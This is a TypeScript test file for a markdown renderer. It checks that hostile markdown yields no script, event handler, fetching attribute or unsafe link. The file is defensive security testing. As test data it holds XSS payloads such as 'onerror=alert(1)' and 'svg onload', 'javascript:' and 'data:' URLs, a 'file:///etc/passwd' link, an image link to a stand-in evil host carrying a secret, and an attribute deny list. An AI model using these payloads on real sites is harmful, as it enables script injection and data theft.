/** Hostile markdown is read and never run: no element, address or request of theirs reaches the page. */

import fc from 'fast-check'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { linkTarget } from './link-target.ts'
import { Markdown } from './markdown.tsx'
import { parseMarkdown } from './parse-markdown.ts'
import { HOSTILE_MARKDOWN } from './testing/hostile-markdown.ts'

const html = (text: string, unfinished = false) => renderToStaticMarkup(createElement(Markdown, { text, unfinished }))

/** Elements that we make ourselves; anything else came from the text. */
const OURS = new Set([
  ...['div', 'p', 'span', 'a', 'strong', 'em', 'del', 'code', 'pre', 'br', 'hr', 'ul', 'ol', 'li', 'blockquote'],
  ...[
    'table',
    'thead',
    'tbody',
    'tr',
    'th',
    'td',
    'section',
    'h4',
    'h5',
    'h6',
    'input',
    'button',
    'svg',
    'path',
    'rect',
    'circle',
  ],
])

/** Our own markup of whole tags, with attributes quoted by React: what is in text is escaped and has no angle bracket. */
function tagsOf(markup: string): { name: string; attributes: Record<string, string> }[] {
  return [...markup.matchAll(/<([a-z0-9]+)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(
    ([, name = '', rest = '']) => ({
      name,
      attributes: Object.fromEntries(
        [...rest.matchAll(/([\w:-]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => [key, value]),
      ),
    }),
  )
}

const FETCHING = ['src', 'srcset', 'srcdoc', 'action', 'formaction', 'poster', 'data', 'background']

function faultOf(key: string, value: string): string[] {
  if (/^on/i.test(key) || FETCHING.includes(key)) return [`the attribute ${key}`]
  if (key === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) return [`the address ${value}`]
  const style = key === 'style' && !/^(color:|text-align:)[\w\s(),.-]*$/.test(value)
  return style ? [`the style ${value}`] : []
}

function faults(markup: string): string[] {
  // Every bracket belongs to a tag that was understood.
  const left = markup.replace(/<\/?[a-z0-9]+(?:\s+[\w:-]+(?:="[^"]*")?)*\s*\/?>/gi, '')
  const bracket = left.indexOf('<')
  const found = bracket === -1 ? [] : [`a bracket: ${left.slice(bracket, bracket + 40)}`]
  for (const { name, attributes } of tagsOf(markup)) {
    if (!OURS.has(name)) found.push(`the element ${name}`)
    found.push(...Object.entries(attributes).flatMap(([key, value]) => faultOf(key, value)))
    if (name === 'a' && !(attributes['rel'] ?? '').includes('noopener')) found.push('a link that keeps its opener')
  }
  return found
}

describe('[W1] [W2] hostile markdown', () => {
  test.each(HOSTILE_MARKDOWN)('%j', (text) => {
    expect(faults(html(text))).toEqual([])
    for (let cut = 1; cut < text.length; cut += 7) expect(faults(html(text.slice(0, cut), true))).toEqual([])
  })

  test('the check itself finds what it looks for', () => {
    expect(faults('<img src="http://evil"/>')).toHaveLength(2)
    expect(faults('<a href="javascript:1">x</a>')).toHaveLength(2)
    expect(faults('<p onclick="x">y</p>')).toEqual(['the attribute onclick'])
    expect(faults('<p>a < b</p>')).toHaveLength(1)
  })

  test('whatever is put together from dangerous pieces', () => {
    const piece = fc.constantFrom(
      ...[
        '<script>',
        '</script>',
        '<img src=x onerror=alert(1)>',
        '[a](',
        'javascript:',
        'alert(1)',
        ')',
        '![',
        '](http://evil/?k=1)',
      ],
      ...[
        '`',
        '```',
        '\n',
        '<svg onload=x>',
        '&lt;',
        '&#x3c;',
        '"',
        "'",
        '<',
        '>',
        'data:text/html,',
        '//evil',
        '[x]: javascript:1',
        '|',
        '- ',
        '> ',
      ],
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), fc.boolean(), (pieces, unfinished) => {
        expect(faults(html(pieces.join(''), unfinished))).toEqual([])
      }),
      { numRuns: 300 },
    )
  })
})

describe('links', () => {
  test('say where they really lead', () => {
    expect(html('[your bank](https://evil.example/login)')).toContain('(evil.example)')
    expect(html('[a](https://bank.example@evil.example/)')).toContain('(evil.example)')
    expect(html('https://plain.example/x')).not.toContain('(plain.example)')
  })

  test('a picture becomes a link with its host, and is not fetched', () => {
    const markup = html('![chart](http://evil.example/?k=secret)')
    expect(markup).not.toContain('<img')
    expect(markup).toContain('chart')
    expect(markup).toContain('(evil.example)')
  })

  test.each([
    ['src/app.ts', { kind: 'file', path: 'src/app.ts', line: null }],
    ['src/app.ts:12', { kind: 'file', path: 'src/app.ts', line: 12 }],
    ['./a%20b.md#L3', { kind: 'file', path: './a b.md', line: 3 }],
    ['mailto:a@b.example', { kind: 'mail', href: 'mailto:a@b.example', address: 'a@b.example' }],
    ['JaVaScRiPt:alert(1)', { kind: 'none' }],
    ['java\nscript:alert(1)', { kind: 'none' }],
    ['vbscript:x(1)', { kind: 'none' }],
    ['data:text/html;base64,xx', { kind: 'none' }],
    ['file:///etc/passwd', { kind: 'none' }],
    ['//evil.example/x', { kind: 'none' }],
    ['\\\\evil\\x', { kind: 'none' }],
    ['#top', { kind: 'none' }],
  ])('%j', (href, target) => expect(linkTarget(href)).toEqual(target))

  test('look-alike hosts are shown as they are', () => {
    expect(linkTarget('https://аpple.com/')).toMatchObject({ kind: 'web', host: 'xn--pple-43d.com' })
  })
})

describe('a text that is still being written', () => {
  test('shows what is open as closed', () => {
    expect(html('This is **bo', true)).toContain('<strong>bo</strong>')
    expect(html('```js\nlet a', true)).toContain('let a')
  })

  test('of a growing text all blocks but the last stay the same, so that they are not painted again', () => {
    const text = '# Title\n\nA paragraph with `code`.\n\n```js\nconst a = 1\n```\n\n- one\n- two\n\nThe end.'
    let changes = 0
    for (let end = 1; end <= text.length; end += 1) {
      const [before, after] = [text.slice(0, end - 1), text.slice(0, end)].map((part) =>
        parseMarkdown(part, { unfinished: true }),
      )
      const settled = before?.slice(0, -1) ?? []
      changes += settled.filter((block, at) => block.raw.trim() !== after?.[at]?.raw.trim()).length
    }
    expect(changes).toBe(0)
  })

  test('a very long text is shown as it is', () => {
    const text = `${'a **b** '.repeat(30_000)}`
    expect(parseMarkdown(text)).toHaveLength(1)
  })
})
